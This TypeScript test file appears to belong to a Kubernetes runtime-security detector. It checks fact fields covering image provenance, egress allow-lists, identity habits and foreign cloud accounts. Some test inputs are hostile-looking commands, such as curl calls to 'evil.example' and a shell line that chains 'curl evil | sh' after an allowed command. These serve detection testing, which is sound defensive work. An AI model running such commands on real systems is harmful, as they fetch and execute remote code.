import type { Observation } from '@tidewaiter/domain';

import { factContext } from './context.js';
import { factsFromFile } from './facts-file.js';
import { factField, factFields, isFactField } from './fields.js';
import type { Habits } from './habits.js';
import { Learned } from './learned.js';

const digest = `sha256:${'a'.repeat(64)}`;
const previous = `sha256:${'b'.repeat(64)}`;
const hash = 'c'.repeat(64);

const file = {
  format: 'tidewaiter-storyline-facts/1',
  cluster: 'prod',
  images: {
    [digest]: {
      repository: 'registry.example.com/shop/api',
      tag: '1.4',
      created: '2026-01-01T00:00:00Z',
      pushed: { at: '2026-01-02T00:00:00Z', by: 'mallory' },
      config: { entrypoint: ['/app/server'], user: '' },
      signature: { signed: false, verified: false },
      provenance: { present: false },
      files: {
        '/app/server': { sha256: hash, package: null },
        '/usr/bin/curl': { sha256: hash, package: 'curl' },
        '/usr/lib/liblzma.so.5': { sha256: hash, package: 'liblzma5', matches_package_metadata: false },
        '/opt/miner': { sha256: hash, package: null, malware: 'XMRig' },
      },
      vulnerabilities: [
        { id: 'CVE-2026-0001', package: 'curl', severity: 'High', kev: false, epss: 0.6 },
        { id: 'CVE-2026-0002', package: 'curl', severity: 'Low', kev: false, epss: 0.01 },
      ],
      secrets: [{ type: 'aws-access-key', path: '/app/.env', fingerprint: 'f1', access_key_id: 'AKIAEXAMPLE' }],
      previous_digests: [
        {
          digest: previous,
          pushed_by: 'ci',
          signed: true,
          diff: { added_files: ['/usr/bin/curl'], changed_files: ['/app/server'], entrypoint_before: ['/start.sh'] },
        },
      ],
    },
  },
  workloads: {
    'shop/Deployment/api': { image_digest: digest, exposed: true, privileged: false, service_account: 'api' },
    'ci/Job/build': { namespace_labels: { purpose: 'ci' } },
  },
  policy: {
    admins: ['alice'],
    allowed_egress: { 'shop/api': ['192.0.2.0/28', '*.example.net'] },
    cloud_accounts: ['222222222222'],
    debug_namespaces: ['debug'],
    cluster_dns: '10.96.0.10',
    egress_seen_with_previous_digest: { 'shop/api': ['10.1.1.1'] },
    exec_probes: { 'shop/api': ['sh -c nc -z 127.0.0.1 80'] },
    known_child_commands: { 'shop/api': ['sh -c convert *'] },
    internal_ranges: ['198.51.100.0/24'],
    key_usual_source: { AKIAEXAMPLE: ['10.0.0.0/8'], 'pod-role': ['10.0.0.0/8'] },
    package_mirrors: ['192.0.2.64/28'],
    sa_usual_namespaces: { 'ci:runner': ['ci'] },
    sa_usual_sources: { 'ci:runner': ['10.0.0.0/8'] },
    sa_usual_user_agents: { 'ci:runner': ['svc/1.0'] },
    security_agents: ['security/agent'],
    signature_required_namespaces: ['shop'],
    internal_npm_scopes: ['@corp'],
    resolved_from_public_registry: ['@corp/auth@9.9.9'],
  },
};

const { facts, policy } = factsFromFile(file);
const context = factContext({ facts, policy });

type Parts<Value> = Partial<{ [Key in keyof Value]: unknown }>;

function observation(parts: {
  process?: Parts<NonNullable<Observation['process']>>;
  file?: Parts<NonNullable<Observation['file']>>;
  network?: Parts<NonNullable<Observation['network']>>;
  request?: Parts<NonNullable<Observation['request']>>;
  pod?: Parts<NonNullable<Observation['pod']>>;
  container?: Parts<NonNullable<Observation['container']>>;
  activity?: Observation['activity'];
}): Observation {
  const container = { imageDigest: digest, startedAt: '2026-01-03T00:00:00Z', ...parts.container };
  const pod = { namespace: 'shop', workload: 'api', workloadKind: 'Deployment', ...parts.pod };
  const blank = { process: null, file: null, network: null, request: null, alert: null, cluster: 'prod' };
  const request = parts.request && { sourceIps: [], groups: [], ...parts.request };
  const timeMs = Date.parse('2026-01-03T00:00:30Z');
  const about = parts.request ? { container: null, pod: null } : { container, pod };
  return {
    activity: 'exec',
    timeMs,
    ...blank,
    ...about,
    ...parts,
    ...(request && { request }),
  } as unknown as Observation;
}

const exec = (executable: string, more: object = {}) =>
  observation({ process: { executable, commandLine: executable, parentCommandLine: null, ...more } });
const connect = (destinationIp: string | null, hostname: string | null = null, commandLine = 'curl') =>
  observation({
    activity: 'connect',
    network: { destinationIp, hostname },
    process: { executable: '/usr/bin/curl', commandLine, parentCommandLine: null },
  });
const request = (parts: Parts<NonNullable<Observation['request']>>) =>
  observation({ activity: 'request', request: parts });
const cloudCall = (requestParameters: object) => ({
  ...request({ user: 'arn:aws:iam::111111111111:user/dev' }),
  source: 'cloudtrail' as const,
  native: { recipientAccountId: '111111111111', requestParameters } as never,
});
const runner = { user: 'system:serviceaccount:ci:runner' };
const bucketAcl = (Owner: string, Grantee: string) =>
  cloudCall({
    AccessControlPolicy: {
      Owner: { ID: Owner },
      AccessControlList: { Grant: [Owner, Grantee].map((ID) => ({ Grantee: { 'xsi:type': 'CanonicalUser', ID } })) },
    },
  });
const scanner = 'arn:aws:iam::111111111111:role/scanner';
const assumed = { verb: 'AssumeRole', parameters: { roleArn: scanner, externalId: 'x' } };
const opened = { verb: 'UpdateAssumeRolePolicy', parameters: { roleName: 'scanner' } };
const callBy = (account: string, userAgent: string, source = '10.42.0.9') =>
  request({ user: `system:serviceaccount:${account}`, userAgent, sourceIps: [source] });

describe('factField', () => {
  it.each<[string, Observation, unknown]>([
    ['Image.Digest', exec('/app/server'), digest],
    ['Image.Tag', exec('/app/server'), '1.4'],
    ['Image.Scanned', exec('/app/server'), true],
    ['Image.Scanned', observation({ container: { imageDigest: previous } }), false],
    ['Image.Scanned', observation({ container: { imageDigest: null } }), undefined],
    ['Image.Signed', exec('/app/server'), false],
    ['Image.SignerChanged', exec('/app/server'), true],
    ['Image.ProvenanceVerified', exec('/app/server'), false],
    ['Image.TagMoved', exec('/app/server'), true],
    ['Image.PusherChanged', exec('/app/server'), true],
    ['Image.EntrypointChanged', exec('/app/server'), true],
    ['Image.AgeHours', exec('/app/server'), 24 + 30 / 3600],
    ['Image.FirstSeen', exec('/app/server'), undefined],
    ['Image.FirstSeen', { ...exec('/app/server'), timeMs: Date.parse('2026-02-20T00:00:00Z') }, false],
    ['Image.Role', exec('/app/server'), 'app'],
    ['Image.Role', observation({ pod: { namespace: 'debug', workload: 'x', workloadKind: 'Pod' } }), 'debug'],
    ['Image.Role', observation({ pod: { namespace: 'ci', workload: 'build', workloadKind: 'Job' } }), 'builder'],
    ['Image.Role', observation({ pod: { namespace: 'security', workload: 'agent', workloadKind: null } }), 'security'],
    ['Image.Role', observation({ pod: { namespace: null } }), undefined],
    ['Image.PublicRegistry', exec('/app/server'), false],
    ['Image.Exploited', exec('/app/server'), true],
    ['Image.ExploitedVulns', exec('/app/server'), ['CVE-2026-0001']],
    ['Image.Flagged', exec('/app/server'), ['XMRig', 'package-file-modified']],
    ['File.InImage', exec('/app/server'), true],
    ['File.InImage', exec('/app/../usr//bin/./curl'), true],
    ['File.InImage', exec('./server', { workingDirectory: '/app' }), true],
    ['File.InImage', exec('/tmp/x'), false],
    ['File.InImage', exec('memfd:kernel'), false],
    ['File.InImage', exec('server'), undefined],
    ['File.InImage', observation({ container: { imageDigest: previous }, process: { executable: '/x' } }), undefined],
    [
      'File.InImage',
      observation({ container: { imageDigest: null }, process: { executable: '/x', fromUpperLayer: true } }),
      false,
    ],
    ['File.ContentMatches', exec('/app/server', { sha256: hash.toUpperCase() }), true],
    ['File.ContentMatches', exec('/app/server', { sha256: 'd'.repeat(64) }), false],
    ['File.ContentMatches', exec('/app/server'), undefined],
    ['File.ContentMatches', exec('/tmp/x', { sha256: hash }), undefined],
    ['File.PackageContentMatches', exec('/usr/bin/curl'), true],
    ['File.PackageContentMatches', exec('/usr/lib/liblzma.so.5'), false],
    ['File.PackageContentMatches', exec('/app/server'), undefined],
    ['File.Package', exec('/usr/bin/curl'), 'curl'],
    ['File.Package', exec('/app/server'), undefined],
    ['File.PackageVulns', exec('/usr/bin/curl'), ['CVE-2026-0001', 'CVE-2026-0002']],
    ['File.MaxSeverity', exec('/usr/bin/curl'), 'high'],
    ['File.MaxSeverity', exec('/usr/lib/liblzma.so.5'), undefined],
    ['File.Exploited', exec('/usr/bin/curl'), true],
    ['File.Exploited', exec('/usr/lib/liblzma.so.5'), false],
    ['File.MalwareName', exec('/opt/miner'), 'XMRig'],
    ['File.Finding', exec('/opt/miner'), 'XMRig'],
    ['File.Finding', exec('/usr/bin/curl'), undefined],
    ['File.Malware', exec('/opt/miner'), true],
    ['File.Malware', exec('/usr/bin/curl'), false],
    ['File.Malware', exec('/tmp/x'), undefined],
    ['File.AddedSinceDigest', exec('/usr/bin/curl'), true],
    ['File.AddedSinceDigest', exec('/app/server'), false],
    ['File.ChangedSinceDigest', exec('/app/server'), true],
    ['File.Entrypoint', exec('/app/server'), true],
    [
      'File.InImage',
      observation({ activity: 'file', file: { path: '/app/server' }, process: { executable: '/x' } }),
      true,
    ],
    ['File.NpmPackage', exec('/bin/sh', { workingDirectory: '/src/node_modules/@corp/auth' }), '@corp/auth'],
    ['File.NpmPackage', exec('/src/node_modules/a/node_modules/b/bin/x'), 'b'],
    ['File.NpmPackage', exec('/src/node_modules/.bin/x'), undefined],
    ['File.NpmScopeInternal', exec('/bin/sh', { workingDirectory: '/src/node_modules/@corp/auth' }), true],
    ['File.NpmFromPublicRegistry', exec('/bin/sh', { workingDirectory: '/src/node_modules/@corp/auth' }), true],
    ['Container.AgeSeconds', exec('/app/server'), 30],
    ['Container.AgeSeconds', observation({ container: { startedAt: 'yesterday' } }), undefined],
    ['Container.Privileged', exec('/app/server'), false],
    ['Container.Exposed', exec('/app/server'), true],
    ['Dest.Public', connect('203.0.113.7'), true],
    ['Dest.Public', connect('::ffff:203.0.113.7'), true],
    ['Dest.Public', connect('10.1.1.1'), false],
    ['Dest.Public', connect('169.254.169.254'), false],
    ['Dest.Public', connect(null), undefined],
    ['Dest.Internal', connect('169.254.169.254'), false],
    ['Dest.Internal', connect('10.1.1.1'), true],
    ['Dest.Internal', connect('198.51.100.9'), true],
    ['Dest.Internal', connect('fd12::1'), true],
    ['Dest.Allowed', connect('192.0.2.3'), true],
    ['Dest.Allowed', connect('192.0.2.70'), true],
    ['Dest.Allowed', connect('203.0.113.7', 'api.example.net'), true],
    ['Dest.Allowed', connect('203.0.113.7', 'api.example.net.evil.example'), false],
    ['Dest.Allowed', connect('203.0.113.7'), undefined],
    ['Dest.Allowed', connect('203.0.113.7', null, 'curl http://203.0.113.7/x'), false],
    ['Dest.Allowed', connect('203.0.113.7', null, 'curl https://a.example.net/x'), true],
    ['Dest.Allowed', connect('203.0.113.7', null, 'curl https://a.example.net/x https://evil.example'), false],
    ['Dest.Allowed', connect('203.0.113.7', null, 'curl https://a.example.net@evil.example/'), false],
    ['Dest.ClusterDns', connect('10.96.0.10'), true],
    ['Dest.SeenWithDigest', connect('203.0.113.7'), undefined],
    ['Dest.SeenWithPreviousDigest', connect('10.1.1.1'), true],
    ['Dest.SeenWithPreviousDigest', connect('203.0.113.7'), false],
    ['Secret.KnownPath', observation({ activity: 'file', file: { path: '/app/.env' } }), true],
    ['Secret.KnownPath', observation({ activity: 'file', file: { path: '/app/x' } }), false],
    ['Secret.Fingerprint', observation({ activity: 'file', file: { path: '/app/.env' } }), 'f1'],
    ['Secret.Fingerprint', request({ accessKeyId: 'AKIAEXAMPLE' }), 'f1'],
    ['Secret.Fingerprint', request({ accessKeyId: 'AKIAOTHER' }), undefined],
    ['Image.Digest', request({ accessKeyId: 'AKIAEXAMPLE' }), digest],
    ['Source.Public', request({ sourceIps: ['203.0.113.9', '10.0.0.1'] }), true],
    ['Source.Public', request({ sourceIps: ['10.0.0.1'] }), false],
    ['Source.Public', request({ sourceIps: ['ec2.example.com'] }), undefined],
    ['Image.Role', request({ namespace: 'debug' }), 'debug'],
    ['Identity.UsualSource', request({ accessKeyId: 'AKIAEXAMPLE', sourceIps: ['10.9.9.9'] }), true],
    ['Identity.UsualSource', request({ accessKeyId: 'AKIAEXAMPLE', sourceIps: ['203.0.113.9'] }), false],
    ['Identity.UsualSource', request({ accessKeyId: 'AKIAEXAMPLE', sourceIps: ['ec2.example.com'] }), undefined],
    ['Identity.UsualSource', request({ ...runner, sourceIps: ['203.0.113.9', '10.1.1.1'] }), false],
    [
      'Identity.UsualSource',
      request({ user: 'arn:aws:sts::1:assumed-role/pod-role/x', accessKeyId: 'ASIAX', sourceIps: ['203.0.113.9'] }),
      false,
    ],
    ['Identity.UsualSource', request({ user: 'constructor', sourceIps: ['203.0.113.9'] }), undefined],
    ['Identity.UsualClient', request({ ...runner, userAgent: 'svc/2.0 (linux)' }), true],
    ['Identity.UsualClient', request({ ...runner, userAgent: 'kubectl/v1.30' }), false],
    ['Identity.UsualNamespace', request({ ...runner, namespace: 'ci' }), true],
    ['Identity.UsualNamespace', request({ ...runner, namespace: 'shop' }), false],
    ['Identity.OwnNamespace', request({ user: 'system:serviceaccount:spark:driver', namespace: 'spark' }), true],
    ['Identity.OwnNamespace', request({ user: 'system:serviceaccount:ci:driver', namespace: 'spark' }), false],
    ['Identity.OwnNamespace', request({ user: 'system:serviceaccount:ci:driver', namespace: null }), undefined],
    ['Identity.OwnNamespace', request({ user: 'spark', namespace: 'spark' }), undefined],
    ['Identity.OwnProgram', callBy('flux-system:kustomize-controller', 'kustomize-controller/v1.3.0'), true],
    ['Identity.OwnProgram', callBy('velero:velero', 'velero-server/v1.15.0 (linux/amd64)'), true],
    ['Identity.OwnProgram', callBy('kafka:strimzi-cluster-operator', 'fabric8-kubernetes-client/6.13'), true],
    ['Identity.OwnProgram', callBy('kafka:strimzi-cluster-operator', 'kubectl/v1.31.0'), false],
    ['Identity.OwnProgram', callBy('aso-system:azureserviceoperator-default', 'aso-controller/v2.14'), true],
    ['Identity.OwnProgram', callBy('velero:velero', 'velero-server/v1.15.0', '203.0.113.9'), false],
    ['Identity.OwnProgram', callBy('cattle-fleet-system:fleet-agent', 'fleetagent/v0.12'), true],
    ['Identity.OwnProgram', callBy('istio-system:istiod', 'pilot-discovery/1.26'), true],
    ['Identity.OwnProgram', callBy('istio-system:istiod', 'pilot-discovery/1.26', '203.0.113.9'), false],
    ['Identity.OwnProgram', callBy('shop:cart', 'pilot-discovery/1.26'), false],
    ['Identity.OwnProgram', callBy('olm:olm-operator-serviceaccount', 'olm/v0.31'), true],
    ['Identity.OwnProgram', callBy('shop:web-cart', 'web/1.0'), false],
    ['Identity.OwnProgram', callBy('vault:vault-agent-injector', 'vault-k8s/v1.6'), true],
    ['Identity.OwnProgram', callBy('shop:cart-worker', 'shop-client/v1.6'), false],
    ['Identity.OwnProgram', callBy('shop:api', 'api/1.0'), false],
    ['Identity.OwnProgram', callBy('shop:kubectl', 'kubectl/v1.31.0'), false],
    ['Identity.OwnProgram', callBy('shop:web', 'fabric8-kubernetes-client/6.13'), false],
    ['Identity.OwnProgram', request({ user: 'alice', userAgent: 'alice/1' }), undefined],
    ['Identity.Platform', callBy('kube-system:job-controller', 'kube-controller-manager/v1.33.1'), true],
    ['Identity.Platform', callBy('kube-system:job-controller', 'curl/8.5.0'), false],
    [
      'Identity.Platform',
      callBy('kube-system:job-controller', 'kube-controller-manager/v1.33.1', '203.0.113.9'),
      false,
    ],
    ['Identity.Platform', callBy('kube-system:helm-traefik', 'Helm/3.18'), true],
    ['Identity.Platform', callBy('kube-system:aws-node', 'aws-node/1.20', '203.0.113.9'), true],
    ['Identity.Platform', callBy('argocd:argocd-server', 'argocd-server/v3.1'), true],
    ['Identity.Platform', callBy('argocd:argocd-server', 'argocd-server/v3.1', '203.0.113.9'), false],
    ['Identity.Platform', callBy('argocd:argocd-server', 'kubectl/v1.31.0'), false],
    ['Identity.Platform', callBy('kube-system:aws-node', 'reqwest/0.12', '203.0.113.9'), false],
    ['Identity.Platform', callBy('kube-system:aws-node', 'other/1.0', '203.0.113.9'), false],
    ['Identity.Platform', callBy('booking-system:web', 'other/1.0'), false],
    ['Identity.Platform', callBy('rook-system:rook-operator', 'rook/1.0'), true],
    ['Identity.Platform', callBy('flux-system:source-controller', 'fluxcd/2'), true],
    ['Identity.Platform', callBy('shop:shop-operator', 'shop-operator/1.0'), false],
    ['Identity.Platform', request({ user: 'system:node:n1', userAgent: 'kubelet/v1.33.1' }), true],
    ['Identity.Platform', request({ user: 'system:node:n1', userAgent: 'kubectl/v1.33.1' }), false],
    ['Identity.Platform', request({ user: 'system:node:n1', userAgent: null }), false],
    ['Identity.Platform', request({ user: 'system:node:n1', userAgent: 'peirates/1.1' }), false],
    [
      'Identity.Platform',
      request({ user: 'gke-deploy@shop.iam.gserviceaccount.com', userAgent: 'kubectl/v1.33' }),
      false,
    ],
    ['Identity.Platform', request({ user: 'eks:cluster-bootstrap', userAgent: 'kubectl/v1.33.1' }), true],
    ['Identity.Platform', exec('/app/server'), undefined],
    [
      'Identity.Platform',
      request({ user: 'system:clustermetrics', userAgent: 'clustermetrics/v0', sourceIps: ['10.0.0.2'] }),
      true,
    ],
    [
      'Identity.Platform',
      request({ user: 'system:clustermetrics', userAgent: 'curl/8', sourceIps: ['10.0.0.2'] }),
      false,
    ],
    [
      'Identity.Platform',
      request({ user: 'system:clustermetrics', userAgent: 'clustermetrics/v0', sourceIps: ['203.0.113.9'] }),
      false,
    ],
    ['Identity.Platform', request({ user: 'system:anonymous', userAgent: 'x/1', sourceIps: ['10.0.0.2'] }), false],
    ['Identity.ForeignAccounts', cloudCall({ userId: '999999999999', owner: '111111111111' }), ['999999999999']],
    ['Identity.ForeignAccounts', cloudCall({ policy: '{"AWS":"arn:aws:iam::999999999999:root"}' }), ['999999999999']],
    ['Identity.ForeignAccounts', cloudCall({ image: '222222222222.dkr.ecr.eu-west-1.amazonaws.com/a' }), undefined],
    ['Identity.ForeignAccounts', cloudCall({ size: 999999999999, id: 'x999999999999' }), undefined],
    ['Identity.ForeignAccounts', bucketAcl('a'.repeat(64), 'b'.repeat(64)), ['b'.repeat(64)]],
    ['Identity.ForeignAccounts', bucketAcl('a'.repeat(64), 'a'.repeat(64)), undefined],
    ['Identity.ForeignAccounts', cloudCall({ 'x-amz-grant-read': `id="${'b'.repeat(64)}"` }), ['b'.repeat(64)]],
    ['Identity.ForeignAccounts', request({ user: 'alice' }), undefined],
    ['Policy.Admin', request({ user: 'alice' }), true],
    ['Policy.Admin', request({ user: 'bob' }), false],
    ['Policy.SecurityAgent', request({ namespace: 'security', name: 'agent' }), true],
    ['Policy.CallByAgent', request({ user: 'system:serviceaccount:security:agent' }), true],
    ['Policy.CallByAgent', request({ user: 'system:serviceaccount:shop:agent' }), false],
    ['Policy.CallByAgent', request({ user: 'alice' }), undefined],
    ['Policy.SignatureRequired', exec('/app/server'), true],
    ['Policy.ExecProbe', exec('/bin/sh', { commandLine: '/bin/sh -c "nc -z 127.0.0.1 80"' }), true],
    ['Policy.ExecProbe', exec('/bin/nc', { commandLine: 'nc', parentCommandLine: 'sh -c nc  -z 127.0.0.1 80' }), true],
    ['Policy.ExecProbe', exec('/bin/sh', { commandLine: 'sh -c id' }), false],
    ['Policy.KnownChild', exec('/bin/sh', { commandLine: '/bin/sh -c "convert a b"' }), true],
    ['Policy.KnownChild', exec('/bin/sh', { commandLine: '/bin/sh -c "convert a b; curl evil | sh"' }), false],
    ['Process.Executable', exec('/app/server'), undefined],
  ])('computes %s', (name, about, expected) => {
    expect(factField(name, about, context)).toEqual(expected);
  });

  it('looks unknown values up in the ledger and prefers it to the event', () => {
    const workload = { cluster: 'prod', namespace: 'ci', kind: 'Job', name: 'build' };
    const namespaceLabels = { 'tidewaiter.dev/role': 'Debug' };
    const unknownFields = { exposed: null, replicas: 1, serviceAccount: null, imageDigests: [] };
    const known = factContext({
      ...factsFromFile({}),
      lookup: {
        digestOf: () => previous,
        workloadOf: () => workload,
        isOfAnotherCluster: () => false,
        startedAtOf: () => Date.parse('2026-01-03T00:00:20Z'),
        accountAt: () => 'web:cms',
        overridesOf: () => ['command'],
        workload: (ref) => ({ ...ref, namespaceLabels, ...unknownFields, privileged: true }),
        namespaceLabelsOf: () => namespaceLabels,
        probesOf: () => ['/bin/true'],
      },
    });
    const probe = observation({
      pod: {},
      process: { executable: '/bin/true', commandLine: 'true', parentCommandLine: null },
    });
    const answers = ['Image.Digest', 'Image.Role', 'Container.Privileged', 'Container.AgeSeconds', 'Policy.ExecProbe'];
    expect(answers.map((name) => factField(name, probe, known))).toEqual([previous, 'debug', true, 10, true]);
    expect(factField('Container.Overrides', probe, known)).toEqual(['command']);
  });

  it('excuse no operator that calls from the pod of another account', () => {
    const accountAt = (_cluster: string | null, address: string) => (address === '10.42.0.9' ? 'web:portal' : null);
    const known = { ...context, accountAt };
    const names = ['Identity.OwnProgram', 'Identity.Platform', 'Identity.Elsewhere'];
    const answers = (call: Observation) => names.map((name) => factField(name, call, known));
    expect(answers(callBy('velero:velero', 'velero-server/v1.15.0'))).toEqual([false, false, true]);
    expect(answers(callBy('velero:velero', 'velero-server/v1.15.0', '10.42.0.8'))).toEqual([true, true, false]);
    expect(answers(callBy('web:portal', 'portal/v1'))).toEqual([true, false, false]);
  });

  it('know controllers by the place of the controller manager', () => {
    const isControllerManager = (_cluster: string | null, address: string) => address === '192.0.2.10';
    const habits: Habits = {
      isControllerManager,
      hasTalkedTo: () => undefined,
      isUsual: () => undefined,
      isAuditedAccount: () => false,
      isTrustedBy: () => false,
      isFirstSeen: () => undefined,
    };
    const known = { ...context, habits };
    const answers = (account: string, source: string, agent = 'kube-controller-manager/v1.33.4') =>
      ['Identity.Platform', 'Identity.Elsewhere'].map((name) =>
        factField(name, callBy(`kube-system:${account}`, agent, source), known),
      );
    expect(answers('generic-garbage-collector', '192.0.2.10')).toEqual([true, false]);
    expect(answers('generic-garbage-collector', '203.0.113.9')).toEqual([false, true]);
    expect(answers('namespace-controller', '10.42.0.9')).toEqual([false, true]);
    expect(answers('namespace-controller', '192.0.2.10', 'curl/8.5.0')).toEqual([false, false]);
  });

  it('count no account as foreign whose audit log arrives', () => {
    const habits = new Learned();
    const call = cloudCall({ policy: '{"AWS":["arn:aws:iam::999999999999:root","arn:aws:iam::888888888888:root"]}' });
    habits.observe({ ...call, native: { recipientAccountId: '888888888888' } }, context);
    expect(factField('Identity.ForeignAccounts', call, { ...context, habits })).toEqual(['999999999999']);
  });

  it.each([
    ['a vendor that assumed the role with its external id', [assumed], null],
    ['one whose role was opened to it just before', [opened, assumed], ['999999999999']],
    ['one that assumed it without', [{ ...assumed, parameters: { roleArn: scanner } }], ['999999999999']],
    [
      'one that assumed another role',
      [{ ...assumed, parameters: { roleArn: 'r', externalId: 'x' } }],
      ['999999999999'],
    ],
  ])('judge the account of %s', (_what, before, expected) => {
    const habits = new Learned();
    for (const { verb, parameters } of before) {
      const call = cloudCall(parameters);
      const native = { ...(call.native as object), userIdentity: { accountId: '999999999999' } };
      const seen = { ...call, native, request: { ...call.request, verb, succeeded: true } };
      habits.observe(seen as unknown as Observation, context);
    }
    const session = { sessionContext: { sessionIssuer: { arn: scanner } } };
    const call = cloudCall({ add: [{ userId: '999999999999' }] });
    const shared = { ...call, native: { ...(call.native as object), userIdentity: session } as never };
    expect(factField('Identity.ForeignAccounts', shared, { ...context, habits }) ?? null).toEqual(expected);
  });

  it('is undefined without facts and never throws', () => {
    const blank = {
      process: null,
      file: null,
      network: null,
      request: null,
      container: null,
      pod: null,
      cluster: null,
    };
    const about = { activity: 'other', timeMs: 0, ...blank } as unknown as Observation;
    const answers = factFields.map(({ name }) => factField(name, about, context));
    expect(answers.filter((answer) => answer !== undefined)).toEqual([]);
  });

  it('distinguishes its fields from others', () => {
    expect([isFactField('Image.Digest'), isFactField('constructor'), isFactField('Image')]).toEqual([
      true,
      false,
      false,
    ]);
  });
});
